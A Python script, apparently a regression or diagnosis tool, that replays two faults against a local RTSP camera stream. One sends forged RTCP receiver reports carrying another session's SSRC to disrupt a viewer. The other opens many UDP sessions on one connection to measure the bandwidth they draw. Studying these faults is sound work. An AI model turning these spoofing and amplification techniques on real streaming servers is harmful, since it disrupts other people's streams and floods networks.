#!/usr/bin/env python3
"""Replays the stray requests that broke screen sharing against a terminal
on 127.0.0.1:5000 and prints one line per fault:

  rtcp   -- a viewer (FFmpeg over TCP) plays for --seconds; a stranger sets
            up and plays a UDP session, learns our SSRC from its SETUP reply
            and, a third of the way in, sends receiver reports with that
            SSRC from another address (over UDP to the RTCP port, or on its
            own RTSP connection's RTCP channel). Prints the pictures the
            viewer decoded before and after the attack.
  sessions -- one connection sends --count SETUPs without a Session header,
            each aimed at its own UDP port, and plays every session it got.
            Prints how many were accepted and the RTP bit rate that lands.

Every address is on loopback (127.0.0.0/8)."""
import argparse, re, socket, struct, subprocess, sys, threading, time

HOST = "127.0.0.1"
URL = "rtsp://127.0.0.1:5000/cam_passby_chn0"


class Rtsp:
    """A hand-written RTSP client on one connection."""

    def __init__(self, bind=None):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.settimeout(30)
        if bind:
            self.sock.bind((bind, 0))
        self.sock.connect((HOST, 5000))
        self.cseq = 0
        self.buf = b""

    def request(self, method, url, headers=""):
        self.cseq += 1
        self.sock.sendall(f"{method} {url} RTSP/1.0\r\nCSeq: {self.cseq}\r\n{headers}\r\n".encode())
        while True:
            at = self.buf.find(b"RTSP/1.0 ")
            end = self.buf.find(b"\r\n\r\n", at) if at >= 0 else -1
            if at >= 0 and end >= 0:
                head = self.buf[at:end].decode("latin1")
                m = re.search(r"Content-Length:\s*(\d+)", head, re.I)
                n = int(m.group(1)) if m else 0
                while len(self.buf) < end + 4 + n:
                    self.buf += self.sock.recv(65536)
                self.buf = self.buf[end + 4 + n:]
                return int(head.split()[1]), head
            data = self.sock.recv(65536)
            if not data:
                return 0, ""
            self.buf += data

    def drain(self):
        """Reads (and drops) whatever interleaved data waits."""
        self.sock.setblocking(False)
        try:
            while self.sock.recv(262144):
                pass
        except (BlockingIOError, OSError):
            pass
        self.sock.setblocking(True)
        self.buf = b""

    def close(self):
        self.sock.close()


def session_of(head):
    m = re.search(r"Session:\s*([^;\r\n]+)", head)
    return m.group(1).strip() if m else None


def receiver_report(ssrc):
    """A listener's compound packet (RR and SDES CNAME), sent as ssrc."""
    rr = struct.pack("!BBHI", 0x80, 201, 1, ssrc)
    sdes = struct.pack("!BBHI", 0x81, 202, 3, ssrc) + bytes([1, 3]) + b"x@y" + bytes(3)
    return rr + sdes


def viewer_frames(proc, counter, stop):
    """Counts the 16 x 16 grey pictures FFmpeg writes."""
    while not stop.is_set():
        data = proc.stdout.read(256)
        if not data:
            break
        counter[0] += len(data)


def rtcp(channel, seconds):
    viewer = subprocess.Popen(["ffmpeg", "-v", "quiet", "-rtsp_transport", "tcp", "-i", URL, "-an",
                               "-vf", "crop=16:16:0:0", "-f", "rawvideo", "-pix_fmt", "gray", "-"],
                              stdout=subprocess.PIPE, stdin=subprocess.DEVNULL)
    count, stop = [0], threading.Event()
    threading.Thread(target=viewer_frames, args=(viewer, count, stop), daemon=True).start()
    stranger = Rtsp(bind="127.0.0.5")
    if channel == "udp":
        status, head = stranger.request("SETUP", URL + "/stream=0",
                                        "Transport: RTP/AVP;unicast;client_port=45000-45001\r\n")
    else:
        status, head = stranger.request("SETUP", URL + "/stream=0",
                                        "Transport: RTP/AVP/TCP;unicast;interleaved=0-1\r\n")
    ssrc = re.search(r"ssrc=([0-9A-Fa-f]+)", head)
    server_port = re.search(r"server_port=(\d+)", head)
    session = session_of(head)
    if status != 200 or not ssrc or not session:
        print(f"rtcp with our ssrc ({channel}): the stranger's SETUP failed ({status})", flush=True)
        viewer.kill()
        return
    stranger.request("PLAY", URL, f"Session: {session}\r\n")
    ssrc = int(ssrc.group(1), 16)
    time.sleep(seconds / 3)
    before = count[0] // 256
    packet = receiver_report(ssrc)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.6", 0))
    for _ in range(5):
        if channel == "udp" and server_port:
            udp.sendto(packet, (HOST, int(server_port.group(1)) + 1))
        else:
            stranger.sock.sendall(b"$\x01" + struct.pack("!H", len(packet)) + packet)
        stranger.drain()
        time.sleep(0.2)
    time.sleep(seconds * 2 / 3 - 1)
    after = count[0] // 256 - before
    running = viewer.poll() is None
    print(f"rtcp with our ssrc ({channel}): viewer frames before={before} after={after} "
          f"still_playing={'yes' if running else 'no'}", flush=True)
    stop.set()
    viewer.kill()
    viewer.wait()
    stranger.close()


def sessions(count, seconds):
    conn = Rtsp()
    ports = []
    sessions_got = []
    for i in range(count):
        port = 46000 + 2 * i
        status, head = conn.request("SETUP", URL + "/stream=0",
                                    f"Transport: RTP/AVP;unicast;client_port={port}-{port + 1}\r\n")
        if status == 200 and session_of(head):
            sessions_got.append(session_of(head))
            ports.append(port)
    receivers = []
    for port in ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        s.bind((HOST, port))
        s.settimeout(0.05)
        receivers.append(s)
    for session in sessions_got:
        conn.request("PLAY", URL, f"Session: {session}\r\n")
    time.sleep(1)
    received, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        for s in receivers:
            try:
                while True:
                    received += len(s.recv(65536))
            except (socket.timeout, BlockingIOError):
                pass
    elapsed = time.monotonic() - start
    print(f"sessions on one connection: asked={count} accepted={len(sessions_got)} "
          f"rtp_mbps={received * 8 / elapsed / 1e6:.1f}", flush=True)
    conn.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("fault", choices=["rtcp-udp", "rtcp-tcp", "sessions"])
    ap.add_argument("--seconds", type=float, default=15)
    ap.add_argument("--count", type=int, default=30)
    a = ap.parse_args()
    if a.fault == "sessions":
        sessions(a.count, a.seconds)
    else:
        rtcp(a.fault.split("-")[1], a.seconds)


if __name__ == "__main__":
    main()
